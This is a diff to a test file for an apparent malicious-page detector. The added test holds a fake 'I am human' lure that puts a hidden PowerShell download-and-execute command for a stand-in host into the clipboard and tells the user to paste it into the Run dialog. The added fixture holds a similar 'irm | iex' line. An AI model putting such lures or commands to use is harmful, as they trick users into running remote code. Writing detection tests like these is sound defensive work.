@@ -76,6 +76,13 @@ test('a command in the clipboard is a command', async () => {
   assert.equal(report.verdict?.label, 'malicious')
 })
 
+test('a command that is shown beside the keys to press is one to be pasted', async () => {
+  const { ids } = await seen(
+    `<p>Press Windows + R, then Ctrl + V</p><pre>powershell -w h irm https://x.example/i|iex</pre><button onclick="navigator.clipboard.writeText('powershell -w h irm https://x.example/i|iex')">I am human</button>`,
+  )
+  assert.ok(ids.includes('trace_puts_command_in_clipboard'))
+})
+
 test('an HTML application has the objects of a script host', async () => {
   const { trace } = await seen(
     `<hta:application><script language="jscript">new ActiveXObject('WScript.Shell').Run('calc.exe',0)</script>`,
@@ -91,6 +98,7 @@ const ORDINARY: Readonly<Record<string, string>> = {
     '<h1>News</h1><img src="https://cdn.example/a.png"><a href="https://www.example.com/about">About</a><script>document.title="x";setInterval(function(){document.title="t"+Date.now()},1000)</script>',
   'a search box': '<form action="https://www.example.com/search"><input name=q><button>Search</button></form>',
   'a copy button': `<button onclick="navigator.clipboard.writeText('npm install left-pad')">Copy</button>`,
+  'a manual shows what its button copies': `<p>Open PowerShell and run:</p><pre id=c>powershell -c "irm https://x.example/i.ps1 | iex"</pre><button onclick="navigator.clipboard.writeText(document.getElementById('c').innerText)">Copy</button>`,
   'a report with a table that sorts': `<table id=t><tr><td>2</td></tr></table><script>var rows=[].slice.call(document.querySelectorAll('#t tr'));rows.sort(function(a,b){return a.textContent<b.textContent?-1:1}).forEach(function(r){document.getElementById('t').appendChild(r)})</script>`,
 }
 
